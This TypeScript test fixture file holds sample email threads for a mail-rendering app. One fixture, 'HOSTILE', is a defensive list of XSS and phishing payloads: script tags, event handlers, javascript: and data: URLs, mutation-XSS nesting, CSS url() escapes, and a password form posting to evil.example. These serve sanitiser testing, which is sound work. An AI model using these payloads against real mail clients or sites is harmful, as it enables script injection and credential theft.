import type { Mail, MailThread } from '@loose-ends/domain/message/mail-thread.ts'
import { MAYA } from './fake-server.ts'

export const ASKED = 'Could you send me the signed lease by Friday?'
const LETTER = `Good morning Maya,\n\nthank you for the tour of the rooms. ${ASKED} The form is at https://museum.example/lease.\n\nBest,\nInes`

/** A message as the mailbox has it; of plain text, from Ines to Maya, unless told otherwise. */
export const aMail = (given: Partial<Mail> = {}): Mail => ({
  id: 'message-1',
  direction: 'received',
  at: '2026-03-09T09:12:00.000Z',
  outcome: 'read',
  from: { name: 'Ines Brandt', email: 'ines@harbour-museum.example' },
  to: [{ name: 'Maya Lindqvist', email: MAYA.email ?? '' }],
  cc: [],
  subject: 'The lease',
  first_line: 'Good morning Maya,',
  text: LETTER,
  html: null,
  images: {},
  attachments: [],
  is_cut: false,
  program_url: null,
  ...given,
})

export const aThread = (...messages: Mail[]): MailThread => ({ messages, left_out: 0 })

const NEWSLETTER = `<html><head><style>
@import url(https://tracker.example/a.css);
body { margin: 0 } .cta { background: #264653; color: #ffffff; padding: 12px 24px; border-radius: 4px; text-decoration: none; display: inline-block }
@media (max-width: 480px) { .wide { width: 100% !important } }
</style></head><body bgcolor="#eeeeee"><table class="wide" width="600" align="center" cellpadding="24" style="background:#ffffff">
<tr><td><img src="https://pictures.example/head.png" width="552" height="120" alt="The Harbour Museum in spring"></td></tr>
<tr><td style="font-family:Georgia,serif;color:#333333"><h1 style="color:#264653">Spring at the harbour</h1>
<p>Four evenings, four boats, one brass band. <b>Could you tell us by 20 March</b> how many guests you bring?</p>
<p><a class="cta" href="https://museum.example/rsvp">Answer here</a></p>
<p>Or write to <a href="mailto:guests@museum.example">guests@museum.example</a>, or see <a href="https://museum.example/spring">museum.example</a>.</p></td></tr>
<tr><td style="font-size:12px;color:#777777">You get this as a member. <a href="https://museum.example/off">Unsubscribe</a>
<img src="https://tracker.example/p.gif" width="1" height="1"></td></tr></table></body></html>`

/** As receipts and newsletters are made: tables within tables, each of a width in pixels, and a row of columns. */
const FIXED_WIDTH = `<body bgcolor="#f4f4f4"><table width="100%" bgcolor="#f4f4f4"><tr><td align="center">
<table width="600" cellpadding="0" style="width:600px;min-width:600px;background:#ffffff"><tr><td style="padding:24px 32px">
<table width="536"><tr><td width="536" style="font-size:15px">Thank you for your order at the boat shop, Maya. The rope is
sent on Thursday. <b>Please tell us by Wednesday if the colour is wrong.</b></td></tr></table>
<table width="536" style="table-layout:fixed"><tr><td width="178">Rope, 40 m</td><td width="178">2 pieces</td><td width="178" align="right">38.00</td></tr>
<tr><td width="178">Shackles</td><td width="178">6 pieces</td><td width="178" align="right">21.60</td></tr></table>
<div style="width:536px;padding:12px;background:#e9f0f2">To be paid: 59.60</div>
</td></tr></table></td></tr></table></body>`

/** Nothing in it can be broken: a row of numbers in one piece. */
const NUMBERS = Array.from({ length: 12 }, (_, month) => String((month + 3) * 1117).padStart(8)).join('')
const UNBREAKABLE =
  `<p>The numbers of the winter, Maya. Is the third one right?</p>` +
  `<pre style="white-space:pre !important">${NUMBERS}</pre>`

/** What hostile HTML tries: none of it may run, load, submit, move or lead astray. */
const HOSTILE = `<div id="all">Dear customer,
<script>parent.hacked = 1</script><img src="x" onerror="parent.hacked = 2">
<svg onload="parent.hacked = 3"><script>parent.hacked = 4</script><use href="data:image/svg+xml,x"></use></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.hacked = 5"></style></mglyph></table></mtext></math>
<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png); position: fixed }
@font-face { font-family: x; src: url(https://evil.example/c.woff) } a::after { content: "bank.example" }
:root { --a: \\75 rl(https://evil.example/v.png) } td { background: var(--a); background-image: var(--b, \\75 rl(https://evil.example/w.png)) }
a + span { color: #ffffff !important; background: #ffffff !important; display: none !important }</style>
<link rel="stylesheet" href="https://evil.example/d.css"><meta http-equiv="refresh" content="0;url=https://evil.example/e"><base href="https://evil.example/">
<form action="https://evil.example/f"><input name="password" type="password"><button formaction="https://evil.example/g">Log in</button></form>
<iframe src="https://evil.example/h"></iframe><object data="https://evil.example/i"></object><embed src="https://evil.example/j">
<video src="https://evil.example/k" poster="https://evil.example/l" autoplay></video><audio src="https://evil.example/m"></audio>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:url('https://evil.example/n.png') #ffffff">Please look at your account.</p>
<table background="https://evil.example/o.png"><tr><td bgcolor="red; list-style-image: url(https://evil.example/u.png); position: fixed">One</td></tr></table>
<img src="https://evil.example/q.png" srcset="https://evil.example/r.png 2x"><img src="//evil.example/s.gif" width="1" height="1">
<a href="javascript:parent.hacked=6">Click</a> <a href="data:text/html,<script>parent.hacked=7</script>">here</a>
<div style="-webkit-text-fill-color: transparent; color: #ffffff; letter-spacing: -1em; line-height: 0">
<a href="https://evil.example/login" target="_top" ping="https://evil.example/t">https://bank.example/login</a></div>
<a href="https://museum.example/" onclick="parent.hacked = 8">the museum</a>
<details ontoggle="parent.hacked = 9" open><summary>More</summary>Text</details>
<template><img src=x onerror="parent.hacked = 10"></template><noscript><p title="</noscript><img src=x onerror=parent.hacked=11>"></p></noscript>
<select><option>1</option></select><textarea autofocus onfocus="parent.hacked = 12">t</textarea><a href="https://a.example" id="body" name="title">x</a></div>`

const QUOTING = `<div dir="ltr">Yes, it is <b>signed</b>. Could you <i>send me</i> the signed lease by Friday?<br>Ines</div>
<br><div class="gmail_quote"><div class="gmail_attr">On Mon, 2 Mar 2026 at 09:00, Maya Lindqvist wrote:</div>
<blockquote>Is the lease signed?<br>Maya</blockquote></div>`

/** What mail clients add by themselves: a sheet of their own, black on white, grey signatures, blue links, a word in red. */
const CLIENT_COLOURED = `<style>p.MsoNormal { margin: 1em 0; color: black; background: white } a:link { color: #0563c1 }</style>
<div style="background-color: rgb(255, 255, 255); color: #000000"><p class="MsoNormal"><br></p><p class="MsoNormal">Good morning Maya,</p>
<p class="MsoNormal" style="color: rgb(31, 73, 125)">Could you send me the signed lease <span style="color: red">by Friday</span>?
<span style="background: yellow">All three pages</span>, please.</p>
<table border="1" bordercolor="#dddddd"><tr><td style="border-color: #dddddd">Rent</td><td><font color="#333333">1,200</font></td></tr></table>
<p class="MsoNormal">See <a href="https://museum.example/lease" style="color: #0000ee">the form</a>.</p>
<p style="font-size: 12px; color: #999999; opacity: 0.7">Ines Brandt, Harbour Museum</p><p><br></p></div>`

const ARABIC = `<p>صباح الخير مايا،</p><p>شكرا على زيارة القاعات. هل يمكنك إرسال عقد الإيجار الموقع قبل يوم الجمعة؟</p><p>مع التحية،<br>ليلى</p>`

const longConversation = (): MailThread => {
  const lines = [
    'I will ask the landlord.',
    'He wants a deposit of two months.',
    'That is fine.',
    'Shall we sign on Monday?',
  ]
  const days = Array.from({ length: 14 }, (_, day) =>
    aMail({
      id: `earlier-${day}`,
      at: `2026-02-${String(day + 10)}T08:30:00.000Z`,
      direction: day % 2 === 0 ? 'sent' : 'received',
      ...(day % 2 === 0 ? { from: { name: 'Maya Lindqvist', email: MAYA.email ?? '' } } : {}),
      first_line: lines[day % lines.length] ?? '',
      text: `${lines[day % lines.length]}\n\nRegards`,
    }),
  )
  const later = aMail({
    id: 'later',
    at: '2026-03-10T07:00:00.000Z',
    first_line: 'One more thing',
    text: 'One more thing: bring the keys.',
  })
  return { messages: [...days, aMail(), later], left_out: 6 }
}

/** Conversations of every kind, by what they show; the message of the item is `message-1`. */
export const CONVERSATIONS: Record<string, { thread: MailThread; sentence: string | null }> = {
  'in a mail program': {
    thread: aThread(
      aMail({
        subject: 'Re: The lease of the two rooms on the ground floor, and who has the key to the harbour gate',
        program_url: 'mid:the-lease@harbour-museum.example',
      }),
    ),
    sentence: ASKED,
  },
  plain: {
    thread: aThread(
      aMail({
        cc: [{ name: 'Tom Ash', email: 'tom@ash.example' }],
        text: `${LETTER}\n\nOn Mon, Mar 2, 2026 at 9:00 AM Maya Lindqvist <maya@lindqvist.example> wrote:\n> Shall I show you the rooms?\n> Maya`,
        attachments: [
          { filename: 'Lease, second draft.pdf', mime_type: 'application/pdf', size: 231_000 },
          { filename: '', mime_type: 'text/calendar', size: 812 },
        ],
      }),
    ),
    sentence: ASKED,
  },
  newsletter: {
    thread: aThread(aMail({ subject: 'Spring at the harbour', html: NEWSLETTER })),
    sentence: 'Could you tell us by 20 March how many guests you bring?',
  },
  'of a fixed width': {
    thread: aThread(aMail({ subject: 'Your order', html: FIXED_WIDTH })),
    sentence: 'Please tell us by Wednesday if the colour is wrong.',
  },
  'wider than any screen': {
    thread: aThread(aMail({ subject: 'The winter', html: UNBREAKABLE })),
    sentence: 'Is the third one right?',
  },
  hostile: { thread: aThread(aMail({ html: HOSTILE })), sentence: 'Please look at your account.' },
  'HTML with a quotation': { thread: aThread(aMail({ html: QUOTING })), sentence: ASKED },
  'HTML in the colours of a mail client': { thread: aThread(aMail({ html: CLIENT_COLOURED })), sentence: ASKED },
  Arabic: {
    thread: aThread(
      aMail({ from: { name: 'ليلى حداد', email: 'layla@haddad.example' }, subject: 'عقد الإيجار', html: ARABIC }),
    ),
    sentence: 'هل يمكنك إرسال عقد الإيجار الموقع قبل يوم الجمعة؟',
  },
  'long conversation': { thread: longConversation(), sentence: ASKED },
  'cut and unreadable': {
    thread: aThread(
      aMail({ id: 'a', at: '2026-03-01T09:00:00.000Z', outcome: 'not_read', text: '', first_line: '' }),
      aMail({ id: 'b', at: '2026-03-02T09:00:00.000Z', outcome: 'too_large', text: '', first_line: '' }),
      aMail({ is_cut: true }),
    ),
    sentence: null,
  },
}
